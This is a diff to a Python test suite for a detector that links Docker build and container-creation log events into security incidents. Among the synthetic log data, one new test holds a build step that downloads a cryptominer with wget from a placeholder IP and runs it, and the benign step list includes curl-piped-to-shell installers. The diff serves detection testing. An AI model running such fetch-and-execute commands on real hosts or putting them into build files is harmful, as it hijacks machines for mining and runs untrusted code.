@@ -44,6 +44,23 @@ def created(second: float, image: str, **host: Any) -> Event:
     return logged(second, f"form data: {body}")
 
 
+def ran(second: float, step: str, place: str = "2/2") -> Event:
+    """Give what BuildKit logs of a step that it runs."""
+    line = f'time="{at(second)}" level=debug msg="> creating a1 [/bin/sh -c x]"'
+    return {"_raw": f'Jun 01 07:00:00 {HOST} dockerd[81]: {line} span="[{place}] RUN {step}"'}
+
+
+STEPS = (
+    "apt-get update && apt-get install -y --no-install-recommends curl ca-certificates",
+    "npm ci --omit=dev",
+    "pip install --no-cache-dir -r requirements.txt",
+    "curl -fsSL https://deb.nodesource.com/setup_22.x | bash -",
+    "curl -sSL https://install.python-poetry.org | python3 -",
+    "go build -o /out/app ./cmd/app",
+    "adduser -D app && chown -R app /srv",
+)
+
+
 def found(events: list[Event]) -> list[Incident]:
     return DETECTOR.correlate(events)
 
@@ -87,20 +104,22 @@ def day_of_log(seed: int) -> list[Event]:
         second = 240.0 * number + rng.random() * 60
         image = f"registry.corp.example/shop/app:{number}"
         builds = [
-            f"/v1.47/build?{CLIENT}&t={image}&remote=client-session&session=x",
+            *(f"/v1.47/build?{CLIENT}&t={image}&remote=client-session&session=x",) * 5,
             f"/v1.43/build?t={image}&q=False&nocache=True&rm=True&forcerm=True&pull=True",
             f"/v1.41/build?{CLIENT}&t={image}&networkmode=host&nocache=1",
             f"/v1.47/build?{CLIENT}&t={image}&remote=https%3A%2F%2Fgithub.com%2Fcorp%2Fapp.git",
         ]
         rights: dict[str, Any] = rng.choice(
             [
-                {},
+                *({},) * 8,
                 {"Privileged": True},
                 {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
                 {"NetworkMode": "host"},
             ]
         )
+        steps = rng.sample(STEPS, 3)
         events += [
+            *(ran(second + 2 + place, each, f"{place + 2}/4") for place, each in enumerate(steps)),
             logged(second, "Calling HEAD /_ping"),
             logged(second + 1, f"Calling POST {rng.choice(builds)}"),
             logged(second + 9, f"Calling POST /v1.47/containers/create?name=job-{number}"),
@@ -176,6 +195,19 @@ def test_a_request_by_hand_and_what_is_started_of_it_are_one_incident() -> None:
     (incident,) = found(events)
     assert ("build-then-deploy", "high") == (incident.verdict, incident.severity)
     assert HOST == incident.host
+
+
+def test_a_step_that_no_project_has_tells_of_the_build_that_ran_it() -> None:
+    events = [
+        *day_of_log(4),
+        logged(20_000, f"Calling POST /v1.47/build?{CLIENT}&t=upd&remote=client-session"),
+        ran(20_004, "wget -q http://203.0.113.9/xmrig && ./xmrig -o stratum+tcp://203.0.113.9:1"),
+        created(20_030, "upd", Privileged=True, PidMode="host"),
+    ]
+
+    (incident,) = found(events)
+    assert "build-then-deploy" == incident.verdict
+    assert "daemon.hostile_step" in incident.steps[0].signals
 
 
 def test_a_command_and_the_engines_report_of_it_are_one_build() -> None:
